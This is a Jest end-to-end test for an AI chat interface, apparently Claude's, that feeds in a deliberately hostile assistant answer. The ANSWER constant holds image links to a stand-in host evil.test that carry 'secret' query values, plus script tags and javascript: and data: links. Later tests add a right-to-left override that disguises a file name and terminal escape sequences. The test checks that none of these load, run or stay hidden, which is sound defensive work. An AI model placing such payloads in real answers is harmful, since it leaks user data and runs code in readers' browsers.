import { BrowserStack } from './support/browser-stack';

jest.setTimeout(120_000);

const ANSWER = [
  'Look: ![inline](https://evil.test/inline.png?secret=1) and ![by reference][pic].',
  '',
  '[pic]: https://evil.test/reference.png?secret=2',
  '',
  '<img src="https://evil.test/html.png?secret=3"><script>window.owned = true</script>',
  '',
  '<div style="background:url(https://evil.test/css.png)">styled</div>',
  '',
  '[a script](javascript:window.owned=true) and [data](data:text/html,<script>window.owned=true</script>)',
].join('\n');

describe('an answer that means harm', () => {
  let product: BrowserStack;

  beforeAll(async () => {
    product = await BrowserStack.start();
  });
  afterAll(async () => {
    await product?.stop();
  });

  it('makes the page fetch nothing from elsewhere and run nothing', async () => {
    const me = await product.openSignedIn();
    await me.openSession(await product.newSession());
    await me.send(`[[text ${JSON.stringify(ANSWER)}]]`);
    await me.waitForEnds(1);
    await me.conversation.locator('.prose', { hasText: 'Look:' }).waitFor();
    await me.page.reload();
    await me.waitForEnds(1);
    expect(me.foreignRequests).toEqual([]);
    expect(await me.page.evaluate(() => 'owned' in window)).toBe(false);
    expect(await me.conversation.locator('img').count()).toBe(0);
    const targets = await me.conversation
      .locator('a')
      .evaluateAll((links) => links.map((link) => link.getAttribute('href')));
    expect(targets.filter((target) => !/^https:\/\/evil\.test\//.test(target ?? ''))).toEqual([]);
    expect(me.complaints).toEqual([]);
  });

  it('shows joined emoji and scripts as they are, and names what hides', async () => {
    const me = await product.openSignedIn();
    await me.openSession(await product.newSession());
    await me.send(`[[text ${JSON.stringify('By 👩‍💻 and 🏳️‍🌈, ❤️, नमस्‍ते, a\u200db.')}]]`);
    await me.waitForEnds(1);
    const answer = me.conversation.locator('.prose', { hasText: 'By' }).last();
    expect((await answer.innerText()).trim()).toBe('By 👩‍💻 and 🏳️‍🌈, ❤️, नमस्‍ते, a⟨U+200D⟩b.');
  });

  it('shows the output of commands without what steers terminals, and commands with what they hide', async () => {
    const me = await product.openSignedIn();
    await me.openSession(await product.newSession());
    const command = "printf '\\033[31mred\\033[0m \\033]0;owned\\007done\\n'";
    await me.send(`[[tool Bash ${JSON.stringify({ command: `${command} # \u202Etxt.exe` })}]] [[text "Printed."]]`);
    const card = me.page.getByRole('region', { name: 'Claude waits for an answer' });
    await card.waitFor();
    expect(await card.getByLabel('Command').innerText()).toContain('# ⟨U+202E⟩txt.exe');
    await card.getByRole('button', { name: 'Allow once' }).click();
    await me.waitForEnds(1);
    await me.conversation.getByRole('button', { name: /printf/ }).click();
    expect((await me.conversation.getByLabel('Result', { exact: true }).innerText()).trim()).toBe('red done');
  });
});
